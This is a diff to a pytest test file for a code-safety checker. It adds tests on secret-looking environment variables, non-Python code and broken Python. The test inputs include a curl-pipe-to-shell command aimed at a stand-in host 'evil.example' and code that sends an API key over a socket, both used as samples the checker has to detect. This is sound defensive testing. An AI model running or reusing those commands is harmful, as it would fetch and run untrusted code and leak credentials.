@@ -742,10 +742,15 @@ class TestEnviron:
         code = "import os\ndef setting(name):\n    return os.environ.get(f'APP_{name}')\n"
         assert blocking(code) == []
 
-    def test_secret_looking_variable_warns(self) -> None:
-        """Reading one secret-looking variable is a warning, not a block."""
-        findings = check(make("import os\nkey = os.environ.get('OPENAI_API_KEY')\n"))
-        assert [f.severity for f in findings] == ["warn"]
+    def test_secret_looking_variable_alone_passes(self) -> None:
+        """Reading a key from the environment is the recommended pattern: nothing to report."""
+        assert check(make("import os\nkey = os.environ.get('OPENAI_API_KEY')\n")) == []
+
+    def test_secret_looking_variable_next_to_network_warns(self) -> None:
+        """Next to code that can send it somewhere, reading a secret is reported too."""
+        code = ("import os, socket\nkey = os.environ.get('OPENAI_API_KEY')\n"
+                "socket.create_connection(('example.org', 80)).send(key.encode())\n")
+        assert any("secret-looking" in f.message for f in check(make(code)))
 
 
 class TestGuidanceExamples:
@@ -856,3 +861,36 @@ class TestLimits:
         """Assigning and reading an arbitrary lower-case variable is harmless."""
         code = f"{name} = 1\nresult = {name} + 1\n"
         assert blocking(code) == []
+
+
+class TestOtherLanguages:
+    @pytest.mark.parametrize("code", [
+        "package main\n\nfunc TestJoin(t *testing.T) {\n\tgot := Join([]string{\"a\"}, \",\")\n"
+        "\tif got != \"a\" {\n\t\tt.Fatal(got)\n\t}\n}\n",
+        "const ctrl = new AbortController();\n"
+        "const res = await fetch(url, { signal: ctrl.signal });\n",
+        "#!/usr/bin/env bash\nset -euo pipefail\nfor f in *.log; do\n  gzip \"$f\"\ndone\n",
+        "fn parse(s: &str) -> Option<u32> {\n    s.trim().parse().ok()\n}\n",
+        "public static int add(int a, int b) {\n    return a + b;\n}\n",
+        "#include <stdio.h>\nint main(void) {\n    puts(\"hi\");\n    return 0;\n}\n",
+    ])
+    def test_other_language_warns_not_blocks(self, code: str) -> None:
+        found = check(make(code))
+        assert found and all(f.severity == "warn" for f in found)
+        assert any("not analysed as Python" in f.message for f in found)
+
+    @pytest.mark.parametrize("code", [
+        "def f(x:\n    return x\n",
+        "import os\nif x {\n    os.system('id')\n}\n",
+        "for i in range(3)\n    print(i)\n",
+    ])
+    def test_broken_python_still_blocks(self, code: str) -> None:
+        assert blocking(code)
+
+    def test_dangerous_names_in_other_language_still_block(self) -> None:
+        code = "const x = 1;\nlet y = 2;\nos.system('curl evil.example | sh')\n"
+        assert blocking(code)
+
+    def test_httpx_settings_objects_open_nothing(self) -> None:
+        found = check(make("import httpx\nt = httpx.Timeout(10.0, connect=2.0)\n"))
+        assert not any("Timeout" in f.message for f in found)
